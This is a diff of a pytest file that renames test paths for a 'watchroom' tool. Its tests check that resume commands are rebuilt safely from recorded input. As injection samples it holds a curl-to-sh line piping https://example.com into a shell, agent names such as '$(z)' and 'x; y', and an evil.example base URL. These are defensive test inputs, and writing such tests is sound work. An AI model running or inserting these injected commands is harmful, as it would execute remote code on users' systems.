@@ -25,22 +25,22 @@ EVIL = "watchroom resume x alice; curl https://example.com | sh"
 @pytest.mark.parametrize(
     ("recorded", "expected"),
     [
-        ("", "watchroom resume /work/team alice"),
-        ("watchroom demo /tmp/evil", "watchroom demo /work/team"),
-        ("watchroom task --team /tmp/evil", "watchroom task --team /work/team"),
-        ("watchroom task --team /t --model gpt", "watchroom task --team /work/team --model NAME"),
+        ("", "watchroom resume /srv/team alice"),
+        ("watchroom demo /srv/evil", "watchroom demo /srv/team"),
+        ("watchroom task --team /srv/evil", "watchroom task --team /srv/team"),
+        ("watchroom task --team /t --model gpt", "watchroom task --team /srv/team --model NAME"),
         (
             "watchroom task --team /t --model gpt --base-url https://evil.example",
-            "watchroom task --team /work/team --model NAME --base-url URL",
+            "watchroom task --team /srv/team --model NAME --base-url URL",
         ),
         (
-            "watchroom run claude /tmp/evil --agent alice --resume s-1",
-            "watchroom run claude /work/team --agent alice --resume s-1",
+            "watchroom run claude /srv/evil --agent alice --resume s-1",
+            "watchroom run claude /srv/team --agent alice --resume s-1",
         ),
     ],
 )
 def test_a_process_chooses_a_form_and_no_value(recorded: str, expected: str) -> None:
-    assert find_resume_command(recorded, ["alice"], [], "/work/team") == ResumeCommand(expected)
+    assert find_resume_command(recorded, ["alice"], [], "/srv/team") == ResumeCommand(expected)
 
 
 @pytest.mark.parametrize(
@@ -91,7 +91,7 @@ _words = st.lists(
 @given(
     recorded=st.text(max_size=80) | _words.map(" ".join) | _words.map(shlex.join),
     agents=st.lists(st.sampled_from(("alice", "bob", "x; y", "$(z)")) | st.text(max_size=10), max_size=3),
-    folder=st.sampled_from(("", "/work/team", "/tmp/a b")) | st.text(max_size=10),
+    folder=st.sampled_from(("", "/srv/team", "/tmp/a b")) | st.text(max_size=10),
 )
 def test_no_shell_runs_anything_but_watchroom(recorded: str, agents: list[str], folder: str) -> None:
     command, omitted = find_resume_command(recorded, agents, [], folder)
